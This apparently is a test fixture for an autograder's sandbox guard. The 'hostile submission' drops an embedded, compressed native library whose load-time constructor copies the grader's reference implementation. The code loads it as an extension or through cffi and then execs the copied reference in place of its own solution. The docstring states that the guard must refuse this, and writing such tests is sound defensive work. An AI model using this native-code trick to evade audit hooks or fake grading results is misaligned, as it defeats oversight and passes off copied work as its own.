"""Hostile submission: loads its own native code, which no audit hook can see.

It writes a tiny shared library into the worker's folder (it may write there) and loads it,
as an extension module and with cffi's ``load_library``. The library does nothing Python can
see: a constructor, run by the dynamic loader before Python even looks for a module in it,
copies the file named by $SRC to $DST with libc's ``open``/``read``/``write``. It copies
``reference_impl/strides.py`` into the worker's folder, and the submission then runs that
copy in place of its own code. Week 1 has no native code, so the guard must refuse to load a
library from anywhere but Python's own folders ("may not load native code"), and the score
is 0.

The library, built with ``gcc -Os -s -shared -fPIC -nostartfiles`` (x86_64 Linux)::

    #include <stdlib.h>
    #include <fcntl.h>
    #include <unistd.h>
    __attribute__((constructor)) static void copy(void) {
        const char *src = getenv("SRC"), *dst = getenv("DST");
        if (!src || !dst) return;
        int in = open(src, O_RDONLY), out = open(dst, O_WRONLY | O_CREAT | O_TRUNC, 0644);
        char buf[65536]; ssize_t n;
        while (in >= 0 && out >= 0 && (n = read(in, buf, sizeof buf)) > 0) write(out, buf, n);
        close(in); close(out);
    }
"""

import base64
import importlib
import os
import sys
import sysconfig
import zlib

LIBRARY = (
    "eNrtWE1sG0UUnl27yYaWjSkgTFNSCzVgQKxik6KI8pNN2sQpkWiThgNtsTf2trYU22G9SR1AkAqlsFIj5YbKhaji"
    "UHEh4lRFqIoIkTj2xAVQOACyBai9UMGlZmb9XjM78iogVZz2s7zfvjfvzbx983Y1M+8fHRuWJYkgQuRlsi0RMgD8"
    "V4TX9ZM2et1LHnBtdxF//BD2MoF+mF8b/WfUppzp9vK3kpfRTwa/PPjlu728IHlZAffjv9g5FsIAxCHyfuJlDPcE"
    "9Wsj/x6YpnEYz+/5ViQv42NK3P+/gNnvbaGP+ujv99E/6KNXfPTknGmbpTlSnjFLJDtdrpjEMo0cOW8VbJNMF6ay"
    "WqWsPU9GxkYHh9JJLakdcmcRfxL9dXN5m91X6GDtceLNF87jcghuYk1qF3KlcHqZnxdOH+Lzw+nDnD7G6fn6bhxa"
    "oyXS6PmKXjsPDNA7JudZU/2nBkXPl0xmIdVvuPLnTGah1Ndd+QqTWQj1VVf+hMls6PoKFfXJ1NJLn1JJPzk5kbrw"
    "u0KfrvYxbaDqS1SdcjZqHzFx8Xu7mHI2U4vrtplythK3E+u1L1iDc3PtMzr8dZ2O6WxQ7WXWrfOjs6l3bB5d/GM+"
    "4mzVTKpzbtbepPTbE6POz2ssi87WmPNr7Q23k69px+99R2VqFWdWm6kL37BgTp3RT+tnNibGh8iRiZNE6god3g+5"
    "vnWn0aiyd43a90O+HsL6fHucSNWI1LWnXVmm4b0I71qE2l5lBoNqZEkeVaOXQroauxjW1fgHu0bU1YWwvKTGqUpX"
    "o9RkUFW2p/80/c/QMTNMoUaG1eixzt3nlQXyyr7DTz938HESIECAAAECBAgQ4H8HrtdxjQ7LefKosL7vIt51/p93"
    "GmXXHxxxDT4Ai3rck61C+30g9wHv5vY/hFvz1w5s7yMZqsI6tR34EeBrsle/InvjxP47BJkuS934F8C+ATLm4RbI"
    "NrT/LbTfa+D+WMQwJOZ14LPAc8AXgUeGhl6IxY+YUwWjFEuwfVzvs4m+Z3LmVCI5m3gKVIRolXzFtmxjimjnSrNa"
    "3qjkiZabL1Xmi022rWbLnGlVCuWSR0jTNsucNpgh3M1M20SzzSq9WuWcYRtEM/Pps5ZRNNP5nLUtEa1QKthpw7KM"
    "eXcko1jI0t7LdrOPbLlYNEv2vconq6/bdM6wjrBOkfEcQRbqGvEw9CELdYy8zNWt1KLeHoM2WXgvkPtanA/w6IGa"
    "RH+sQ+Q9QvwiJ6HGUcY6R475xI/QYb8tC+8VctQnf6h/FfwHhfcUucr5d7bwP86dQTH0hryc8TnXQZ4U/PE7h3x1"
    "h/yfAl0S5P6wlxUff+Qs3N+df5/zLCKcZyHeEvwzYS+/2+L8h8c7bMvNfVfvnm+pre0VgT+E3IWE7xOe6+H5XUjw"
    "w/wvQ/zid73W6T239Bv/Mvj3CnZxGODJHfIvCedIiNfA/8oO8/8Pg2FLrw=="
)

_root = os.path.dirname(os.path.dirname(sys.modules["autograder"].__file__))
_library = os.path.abspath("native_helper" + sysconfig.get_config_var("EXT_SUFFIX"))
os.environ["SRC"] = os.path.join(_root, "reference_impl", "strides.py")
os.environ["DST"] = os.path.abspath("copied_reference.py")
with open(_library, "wb") as _f:
    _f.write(zlib.decompress(base64.b64decode("".join(LIBRARY))))


def _as_extension():
    sys.path.insert(0, os.path.dirname(_library))
    try:
        importlib.import_module("native_helper")
    except ImportError as exc:
        if "module export function" not in str(exc):  # loaded and ran, has no PyInit: fine
            raise


def _with_cffi():
    import _cffi_backend

    _cffi_backend.load_library(_library)


_errors = []
for _load in (_as_extension, _with_cffi):
    try:
        _load()
    except (ImportError, OSError) as exc:
        _errors.append(exc)
if not os.path.exists(os.environ["DST"]):
    raise _errors[0]
with open(os.environ["DST"]) as _f:
    exec(_f.read(), globals())  # the reference engine, in place of this file
